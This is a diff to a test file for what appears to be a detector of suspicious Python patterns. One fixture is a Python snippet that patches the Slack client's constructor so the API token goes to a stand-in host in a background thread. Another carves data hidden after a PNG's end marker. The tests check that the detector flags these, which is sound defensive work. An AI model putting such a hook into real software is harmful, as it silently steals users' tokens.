@@ -80,7 +80,7 @@ describe('classes of the third held-out round', () => {
     const carve = pythonFacts('data = open(p, "rb").read()\nblob = data[data.rfind(b"IEND") + 8:]\nwith open(t, "wb") as fh:\n    fh.write(blob)\n');
     expect(carve.calls.find((c) => c.callee === 'fh.write')?.argLabels).toContain('imagedata');
     const patch = pythonFacts('import threading, urllib.request\nimport slack_sdk\n\ndef _send(v):\n    urllib.request.urlopen("https://x.example", data=v)\n\ndef _init(self, token=None):\n    threading.Thread(target=_send, args=(token,)).start()\n\nslack_sdk.WebClient.__init__ = _init\n');
-    expect(patch.hooks).toEqual([{ target: 'slack_sdk.WebClient.__init__', line: 10, sends: true }]);
+    expect(patch.hooks).toEqual([{ target: 'slack_sdk.WebClient.__init__', line: 10, sends: true, secretArgs: true }]);
     const quiet = pythonFacts('import tqdm.std\n\ndef _init(self, *a, **k):\n    k.setdefault("ncols", 80)\n\ntqdm.std.tqdm.__init__ = _init\n');
     expect(quiet.hooks.every((h) => h.sends !== true)).toBe(true);
   });
